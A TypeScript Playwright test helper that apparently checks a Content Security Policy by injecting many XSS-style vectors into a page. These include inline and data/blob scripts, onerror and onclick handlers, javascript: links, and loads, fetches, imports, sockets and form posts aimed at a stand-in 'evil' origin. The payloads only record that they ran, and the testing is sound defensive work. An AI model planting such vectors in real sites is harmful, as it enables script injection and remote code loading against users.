import type { Page } from 'playwright/test';

export interface AttackOutcome {
  /** Ways by which an injected script did run. */
  readonly ran: readonly string[];
  /** Ways by which something of the other site was loaded. */
  readonly loaded: readonly string[];
}

/**
 * Puts into the page what hostile content would: scripts in every form, resources and forms of another site.
 * @param evil origin of a site whose answers anyone may read
 */
export function injectAttacks(page: Page, evil: string): Promise<AttackOutcome> {
  return page.evaluate(async (evilOrigin) => {
    const ran: string[] = [];
    const loaded: string[] = [];
    Object.assign(window, { attackRan: (way: string) => ran.push(way) });

    const add = (tag: string, attributes: Record<string, string>, text = '') => {
      const element = document.createElement(tag);
      element.addEventListener('load', () =>
        loaded.push(`${tag} ${attributes.src ?? attributes.href ?? ''}`),
      );
      for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
      element.textContent = text;
      document.body.append(element);
      return element;
    };
    const attempt = async (way: string, action: () => unknown) => {
      try {
        await action();
        loaded.push(way);
      } catch {
        // Refused, as it has to be.
      }
    };
    const run = (way: string) => `window.attackRan(${JSON.stringify(way)})`;

    add('script', {}, run('inline script'));
    add('script', { type: 'module' }, run('inline module'));
    add('script', { src: `data:text/javascript,${run('data script')}` });
    add('script', { src: `${evilOrigin}/a.js` });
    add('img', { src: 'x:', onerror: run('onerror') });
    add('button', { onclick: run('onclick') }).click();
    add('a', { href: `javascript:${run('javascript link')}` }).click();
    add('link', { rel: 'stylesheet', href: `${evilOrigin}/a.css` });
    add('img', { src: `${evilOrigin}/a.png` });
    add('video', { src: `${evilOrigin}/a.webm` });
    add('iframe', { src: `${evilOrigin}/frame` });
    add('iframe', { srcdoc: `<script>parent.${run('srcdoc')}</script>` });
    add('object', { data: `${evilOrigin}/object` });
    add('embed', { src: `${evilOrigin}/embed` });
    add('base', { href: `${evilOrigin}/` });
    const blob = new Blob([run('blob script')], { type: 'text/javascript' });
    add('script', { src: URL.createObjectURL(blob) });

    await attempt('fetch', () => fetch(`${evilOrigin}/fetch`));
    await attempt('import', () => import(/* @vite-ignore */ `${evilOrigin}/module.js`));
    await attempt(
      'eval',
      () =>
        new Promise((resolve, reject) => {
          // Away from the debugger's own evaluation, which the policy does not bind.
          setTimeout(() => {
            try {
              resolve(new Function('return 1')());
            } catch (error) {
              reject(error);
            }
          });
        }),
    );
    setTimeout(run('string timer') as unknown as () => void);
    await attempt(
      'worker',
      () =>
        new Promise((resolve, reject) => {
          const worker = new Worker(URL.createObjectURL(blob));
          worker.onerror = reject;
          setTimeout(() => resolve(worker), 300);
        }),
    );
    await attempt(
      'socket',
      () =>
        new Promise((resolve, reject) => {
          const socket = new WebSocket(evilOrigin.replace('http', 'ws'));
          socket.onopen = resolve;
          socket.onerror = reject;
        }),
    );
    const form = add('form', { action: `${evilOrigin}/form`, method: 'post' });
    (form as HTMLFormElement).submit();
    await new Promise((resolve) => setTimeout(resolve, 500));
    return { ran, loaded: loaded.filter((way) => !way.startsWith('iframe')) };
  }, evil);
}
